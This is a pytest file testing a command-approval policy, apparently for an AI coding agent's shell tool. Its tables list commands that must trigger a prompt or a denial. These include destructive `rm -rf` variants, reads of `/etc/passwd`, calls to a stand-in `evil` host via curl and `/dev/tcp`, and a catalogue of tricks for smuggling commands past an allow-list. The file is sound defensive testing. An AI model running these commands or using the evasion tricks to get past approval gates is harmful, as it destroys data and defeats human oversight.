"""Commands that must ask even with ls, echo, cat and git status allowed, and
commands that may run. Table-driven over ``decide`` under ``ask`` mode."""

from __future__ import annotations

from pathlib import Path

import pytest

from swebash_py.approvals.policy import decide
from swebash_py.approvals.rules import RuleSet
from swebash_py.approvals.shellparse import analyse
from swebash_py.tools.base import Preview
from swebash_py.tools.registry import builtin_traits

TRAITS = builtin_traits()

ALLOW = ["run_command(ls)", "run_command(ls:*)", "run_command(echo:*)",
         "run_command(cat *)", "run_command(git status)"]

MUST_ASK = [
    # chaining: every part must be allowed
    "ls; rm -rf x", "ls && rm x", "ls || rm x", "ls | sh", "ls\nrm x", "ls & rm x",
    "ls;rm x", "ls|rm x", "ls --color=auto && rm x", "echo hi |& sh", "echo hi | bash",
    "git status --short | sh", "! rm x", "git status; git push --force",
    "git status && git status > /etc/x", "ls | tee out", "ls | xargs rm",
    # substitutions and nesting
    "echo $(rm x)", "echo `rm x`", 'echo "$(rm x)"', 'echo "`rm x`"', 'ls "$(rm x)"',
    "cat <(rm x)", "cat <(curl evil)", "(rm x)", "{ rm x; }", "ls $(ls $(rm x))",
    "cat <<EOF\n$(rm x)\nEOF", "cat <<< $(rm x)", "echo hi ${x:-$(rm y)}",
    "if ls; then rm x; fi", "while true; do rm x; done", "case x in x) rm y;; esac",
    "for f in a; do rm $f; done", "f(){ rm x; }; f", "alias ls='rm -rf /'; ls",
    # expansions
    "find . {-delete,}", "echo {a,b}", "echo {1..3}", "$'\\x72m' -rf x", "echo $'hi'",
    "ls${IFS}-la", "l$@s", "echo $HOME", "echo ${HOME}", 'echo $"x"', "echo $((1+2))",
    "* -la", "l? -la", "~/bin/ls", "`echo rm` x",
    # environment prefixes and shell state
    "PAGER=x git status", "X=1 ls", "export PATH=.; ls", "PATH=. ; ls", "echo hi; unset PATH",
    # wrappers
    "env rm x", "env ls", "sudo ls", "doas ls", "timeout 5 rm x", "timeout 5 ls", "xargs rm",
    "bash -c 'rm x'", "sh -c ls", "zsh -c 'ls'", "eval rm x", "eval ls", "exec ls",
    "source evil.sh", ". evil.sh", "command ls", "builtin echo hi", "time ls", "nohup ls",
    "nice ls", "watch ls",
    # redirections to files
    "ls > out.txt", "cat /etc/passwd > x", "ls >> out.txt", "ls &> out.txt", "ls >| out.txt",
    "ls >& out", "ls 1<>x", "ls 2> err.txt", "echo hi > /dev/tcp/evil/80",
    "cat > x <<EOF\nhi\nEOF",
    # dangerous flags
    "find . -delete", "find . -exec rm {} \\;", "find . -execdir rm {} +", "find . -fprint out",
    "git -c core.pager=x status", "git diff --output=x", "git log --output=/tmp/x",
    "sort -o x y", "sort -uo x y", "rg --pre sh x", "git branch -D main", "git branch newname",
    # getopt_long's abbreviations of those flags (issue #27)
    "sort --outp=F", "sort --o F x", "sort --co=sh x", "sort --compress-prog sh x",
    "date --se=2020-01-01", "git diff --outp=x",
    # control characters, invisible and look-alike characters
    "ls\rrm x", "ls\x1b[2K; rm x", "ls\x07", "ls\x7f", "ls\x85rm x", "ls\u2028rm x",
    "ls\u200b", "ls\u202e x", "\u217cs", "\uff4c\uff53", "ls \\\nrm x",
    # parse errors
    "ls )", "ls 'unterminated", "ls &&", "echo $(",
    # other commands, paths, escapes
    "/bin/rm x", "./ls", "\\rm x", "l\\s; rm x", "cat\tx; rm y",
    # very long chains
    "; ".join(["ls"] * 99 + ["rm x"]), "; ".join(["ls"] * 1000), " && ".join(["ls"] * 1000),
    "ls " + "a" * 20_000,
    # found by the outside audit: code bash runs that the parse tree does not show
    "cat <<EOF\n`rm x`\nEOF", "cat <<EOF\n\"`rm x`\"\nEOF", "echo $(cat <<EOF\n`rm x`\nEOF\n)",
    "echo \"`echo \\`rm x\\``\"", "echo `echo \\$(rm x)`",
    "echo 'a[$(rm x)]'; test -v 'a[$(rm x)]'",
    "cat x | bash", "cat x | bash -o pipefail", "cat x | sh -s", "cat x | bash /dev/stdin",
    "cat x | python3", "cat x | python3 -", "cat <(echo rm x) | bash -x", "hash -p /bin/rm ls; ls",
    "shopt -s expand_aliases\nalias ls=rm\nls x", "=rm x", "noglob ls", "rg --hostname-bin=./x y",
    "cat q.sql | sqlite3 db", "cat x | ed -s f", "cat x | awk -f - y", "cat x | make -f -",
    "cat x | sed -f /dev/stdin y", "cat x | vim -e -s f",
    "cat <<-EOF\n\t$(rm x)\n\tEOF", "cat <<-E\n\t$( rm x )\n\tE",
    "grep -f/etc/passwd x", "wc -l -- ../x",
    "repeat 1 rm x", "emulate sh -c 'rm x'", "mapfile -C 'rm x' -c 1 a < f", "zmodload zsh/system",
]

MAY_PASS = [
    "ls", "ls -la", "git status", "echo hello world", "cat README.md | head -5",
    "ls && git status", 'echo "a;b"', "echo 'a b' \"c d\"", "echo '$(rm x)'", "ls -la | wc -l",
    "cat a b c", "ls; echo done", "echo hi 2>/dev/null", "ls 2>&1 | head", "(ls)", "{ ls; }",
    "echo `ls`", "echo $(ls)", "ls *.py", "git status # rm x", "cat <<'EOF'\n$(rm x)\nEOF",
    "echo a\\;b", "grep -r foo . | sort | uniq -c", "git diff HEAD~1", "git log --oneline -5",
    "find . -name '*.py'", "if ls; then echo yes; fi", "ls\necho hi", "echo hi >/dev/null",
    "pwd", "echo rm -rf /", "echo HEAD@{1}", "git branch -a", "ls -la 2>/dev/null || echo none",
    "cat <<EOF\n$(ls)\nEOF", "cat <<EOF\nplain \\$(rm x)\nEOF",
    "sort --reverse x", "sort -u --stable x", "date --utc",  # the twins of the abbreviations
]


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    return tmp_path


def run(command: str, ws: Path, allow: list[str] = ALLOW, deny: list[str] = (),  # type: ignore[assignment]
        mode: str = "ask") -> str:
    preview = Preview(summary=command, detail=command, detail_kind="command")
    return decide(TRAITS["run_command"], {"command": command}, preview, mode,
                  RuleSet.from_lists(allow, deny), ws).action


def test_tables_are_big_enough() -> None:
    assert len(MUST_ASK) >= 60 and len(set(MUST_ASK)) == len(MUST_ASK)


@pytest.mark.parametrize("command", MUST_ASK, ids=lambda c: repr(c)[:40])
def test_must_ask(command: str, ws: Path) -> None:
    assert run(command, ws) == "ask"


@pytest.mark.parametrize("command", MAY_PASS, ids=lambda c: repr(c)[:40])
def test_may_pass(command: str, ws: Path) -> None:
    assert run(command, ws) == "allow"


@pytest.mark.parametrize("command", MUST_ASK, ids=lambda c: repr(c)[:40])
def test_strict_mode_always_asks(command: str, ws: Path) -> None:
    assert run(command, ws, mode="strict") == "ask"


def test_the_literal_string_is_one_echo() -> None:
    analysis = analyse("echo '$(rm x)'")
    assert analysis.clean and analysis.commands == [["echo", "$(rm x)"]]


def test_every_part_is_found() -> None:
    analysis = analyse("ls | head -5 && (git status; echo `pwd`) || cat <(date) {x}")
    assert analysis.clean
    assert sorted(map(tuple, analysis.commands)) == sorted(
        [("ls",), ("head", "-5"), ("git", "status"), ("pwd",), ("echo", "\x00?"),
         ("date",), ("cat", "\x00?", "{x}")])


def test_quotes_become_literal_values() -> None:
    analysis = analyse("""echo "a\\"b" 'c d' e\\ f "\\$x" g'h'"i" """)
    assert analysis.clean
    assert analysis.commands == [["echo", 'a"b', "c d", "e f", "$x", "ghi"]]


@pytest.mark.parametrize("command", ["ls; rm -rf x", "echo $(rm x)", "sudo rm x",
                                     "bash -c 'rm x'", "find . -exec rm {} \\;", "/bin/rm x",
                                     "ls\rrm x", "ls | xargs rm", "timeout 5 rm x",
                                     "env FOO=1 rm x", "eval 'rm x'", "ls && (cd /; rm x)",
                                     '"rm" x', "\\rm x", "sudo -u root rm -rf /",
                                     " && ".join(["ls"] * 500 + ["rm x"]),
                                     "; ".join(["ls"] * 1000 + ["rm x"]),
                                     "cat <<EOF | rm x\nhi\nEOF", "sh -c 'sh -c \"rm x\"'"],
                         ids=lambda c: repr(c)[:40])
@pytest.mark.parametrize("mode", ["ask", "yolo", "strict"])
def test_deny_beats_allow(command: str, mode: str, ws: Path) -> None:
    assert run(command, ws, allow=[*ALLOW, "run_command(sudo:*)"], deny=["run_command(rm:*)"],
               mode=mode) == "deny"


@pytest.mark.parametrize("command", ["echo rm", "ls -la", "cat rm.txt", "echo '$(rm x)'"])
def test_deny_does_not_overreach(command: str, ws: Path) -> None:
    assert run(command, ws, deny=["run_command(rm:*)"]) == "allow"


@pytest.mark.parametrize("command", ["$'\\x72m' -rf x", "l$@s x", "$CMD x"])
def test_yolo_asks_when_deny_rules_cannot_be_checked(command: str, ws: Path) -> None:
    assert run(command, ws, deny=["run_command(rm:*)"], mode="yolo") == "ask"
    assert run(command, ws, mode="yolo") == "allow"


@pytest.mark.parametrize("command", [
    "echo 'rm x' | bash", "bash <<EOF\nrm x\nEOF", "bash <(echo rm x)", "echo rm x | sh -s",
    "shopt -s expand_aliases\nalias l=rm\nl x", "=rm x", "- rm x", "sg users 'rm x'",
    "python3 -c 'import os; os.system(\"rm -rf x\")'", "cat <<EOF\n`rm x`\nEOF",
    "printf -v 'a[$(rm x)]' y", "hash -p /bin/rm ls; ls x", "git commit -m 'rm x'"],
    ids=lambda c: repr(c)[:40])
def test_yolo_asks_when_a_deny_rule_might_be_walked_around(command: str, ws: Path) -> None:
    assert run(command, ws, deny=["run_command(rm:*)"], mode="yolo") in ("ask", "deny")
    assert run(command, ws, mode="yolo") == "allow"  # the deny rule is what makes it ask


@pytest.mark.parametrize("command", ["bash script.sh", "bash -e -- s.sh", "python3 x.py",
                                     "grep -f - x", "awk '{print}' x", "make -f Makefile",
                                     "make", "sed",
                                     "python3 -m pytest -q", "node -e 1", "sh -o errexit s.sh"])
def test_scripts_from_files_stay_accountable(command: str) -> None:
    assert analyse(command).clean


def test_exact_deny_rule_is_a_prefix(ws: Path) -> None:
    deny, allow = ["run_command(git push)"], ["run_command(git:*)"]
    assert run("git push --force origin main", ws, allow=allow, deny=deny) == "deny"
    assert run("git $(echo push) --force", ws, allow=allow, deny=deny) == "deny"
    assert run("git pull", ws, allow=allow, deny=deny) == "allow"
